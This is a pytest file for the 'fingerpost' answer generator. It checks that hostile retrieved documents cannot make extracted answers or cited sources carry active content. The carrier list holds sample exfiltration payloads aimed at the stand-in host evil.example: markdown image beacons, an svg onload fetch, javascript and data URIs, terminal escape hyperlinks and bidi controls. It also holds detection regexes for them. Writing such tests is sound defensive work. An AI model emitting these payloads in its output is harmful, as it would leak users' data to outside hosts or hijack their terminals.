"""R31, T5: a hostile document cannot make the answer reach out or steer a terminal."""

from __future__ import annotations

import itertools
import re

import pytest

from fingerpost.generate import cite_sources, extract_answer
from fingerpost.types import Chunk, Document, Evidence, Hit, Span

_HOST = "evil.example"
_CARRIERS = [
    f"![x](https://{_HOST}/?q=%73ecret)", f"![x][r] [r]: https://{_HOST}/", f"[go](https://{_HOST})", f"<https://{_HOST}/a>",
    f"https://{_HOST}/a", f"www.{_HOST}/a", f'<img src="https://{_HOST}/i">', f"<img src=https://{_HOST}/i", f"&lt;img src=https://{_HOST}/i&gt;",
    f"[![b](https://{_HOST}/b)](https://{_HOST})", f"<a href='//{_HOST}'>x</a>", "[x](javascript:alert(1))", "data:text/html;base64,AA==",
    f"` https://{_HOST} ``", f"\\![x](https://{_HOST})", f"!&#91;x&#93;(https://{_HOST})", f"[x]: <https://{_HOST}> 't'", f"a@{_HOST}",
    f"\x1b]8;;https://{_HOST}\x07x\x1b]8;;\x07", f"\u202ehttps://{_HOST}", f"<svg/onload=fetch('https://{_HOST}')>", f"ftp://{_HOST}/x",
    f"<iframe src=https://{_HOST}></iframe>", f"[a](<https://{_HOST}/ b>)", f"![\x00x](https://{_HOST})",
]  # fmt: skip
_FRAMES = [
    "The cache keeps 1000 entries {}.", "{} The cache keeps 1000 entries.", "- The cache keeps 1000 entries {}",
    "1. The cache keeps 1000 entries: {}", "| Cache | Entries |\n|---|---|\n| keeps {} | 1000 |", "> The cache keeps 1000 entries {}",
    "**The cache {} keeps 1000 entries.**", "The cache keeps `1000` entries {} and `more`.",
    "The cache keeps 1000 entries {0}. The cache {0} keeps entries.", "The cache keeps [1000 {} entries](x.md).",
    "<b>The cache keeps 1000 {} entries</b>", "The cache\nkeeps 1000\n{}\nentries.",
]  # fmt: skip
_CODE = re.compile(r"^(`{3,})[^\n]*\n.*?^\1$|`[^`\n]*`", re.MULTILINE | re.DOTALL)
_ACTIVE = re.compile(r"!\[|\]\(|\]\[|\]: *\S|<[A-Za-z/!?]|\w+://|www\.|javascript:|data:\w|\w@\w")
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("frame", _FRAMES)
def test_no_answer_or_source_carries_anything_active(frame: str) -> None:
    answered = 0
    for carrier, name in itertools.product(_CARRIERS, ("markdown", "mdx", "text")):
        text = frame.replace("{0}", "{}").replace("{}", carrier)
        document = Document("d", f"{carrier}.md", "s", "file:///x", carrier, "", name)
        chunk = Chunk("c", "d", 0, text, Span(0, len(text)), (carrier,), 1, 9)
        evidence = Evidence((Hit(chunk, document, 1.0),), coverage=1.0)
        answer = extract_answer("How many entries does the cache keep?", evidence)
        answered += answer.abstention is None
        assert not _ACTIVE.search(_CODE.sub("", answer.text)), answer.text
        assert not _CONTROL.search(answer.text)
        for source in cite_sources(answer, evidence):
            assert not _CONTROL.search(source.path)
            for shown in (source.title, source.heading, source.snippet):
                assert not _CONTROL.search(shown)
                assert not _ACTIVE.search(_CODE.sub("", shown)), shown
    assert answered > len(_CARRIERS)
